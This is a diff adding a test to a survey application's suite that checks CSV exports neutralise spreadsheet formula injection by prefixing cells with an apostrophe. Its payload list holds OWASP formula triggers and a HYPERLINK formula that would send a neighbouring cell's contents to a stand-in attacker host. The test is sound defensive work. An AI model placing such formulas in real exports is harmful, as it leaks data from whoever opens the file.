@@ -546,6 +546,43 @@ test('export: the long CSV has as many rows as the database has answers; logged'
 	assert.equal((await e.post('/admin/export/hemligt.csv')).status, 404);
 });
 
+// Free-text answers a spreadsheet would run as formulas: OWASP's CSV
+// injection triggers and the HYPERLINK that sends a cell's neighbour away.
+const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1',
+	'=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'];
+
+test('export: formula answers (= + - @ tab CR, HYPERLINK) get a leading \' in both answer CSVs', async () => {
+	const sid = L.studyId();
+	const pay = FORMULAS.map((v, i) => `(${i + 1}, ${L.lit(v)})`).join(', ');
+	L.sql(`WITH pay(k, v) AS (VALUES ${pay}),
+		pairs AS (SELECT r.response_id, r.instrument_id, r.version, ii.item_id,
+			row_number() OVER (ORDER BY r.response_id DESC, ii.position) AS k
+			FROM uppfolj.response r JOIN uppfolj.participant p USING (participant_id)
+			JOIN uppfolj.instrument_item ii USING (instrument_id, version)
+			WHERE p.study_id = ${sid} AND r.status = 'submitted' AND ii.item_type = 'text')
+		INSERT INTO uppfolj.answer (response_id, instrument_id, version, item_id, value_text)
+		SELECT p.response_id, p.instrument_id, p.version, p.item_id, pay.v FROM pairs p JOIN pay USING (k)
+		ON CONFLICT (response_id, item_id) DO UPDATE SET value_text = excluded.value_text,
+			dont_know = false`);
+	const e = await L.loggedIn(evaluator);
+	for (const file of ['svar-lang.csv', 'svar-bred.csv']) {
+		const r = await e.post('/admin/export/' + file);
+		assert.equal(r.status, 200);
+		writeFileSync(join(L.env.artifacts, 'formula-' + file), r.buf);
+		const cells = new Set(L.parseCsv(r.text).flat());
+		for (const f of FORMULAS) {
+			assert.ok(cells.has("'" + f), `${file}: ${JSON.stringify(f)} with a leading '`);
+			assert.ok(!cells.has(f), `${file}: ${JSON.stringify(f)} never bare`);
+		}
+		// No cell starts a formula unless it is a plain number.
+		const bad = [...cells].filter((c) => /^[=+\-@\t\r]/.test(c) &&
+			!/^[-+]?[0-9]+([.,][0-9]+)?$/.test(c));
+		assert.deepEqual(bad, [], file);
+	}
+	const page = await e.get('/admin/export');
+	assert.match(page.text, /börjar med = \+ - @, ett tabbsteg eller en radbrytning \(CR\) får en apostrof/, 'the export page states the rule');
+});
+
 test('access request: one participant\'s own answers as JSON', async () => {
 	const e = await L.loggedIn(evaluator);
 	const [panel, n] = L.sql(`SELECT p.panel_id, count(*) FROM uppfolj.participant p
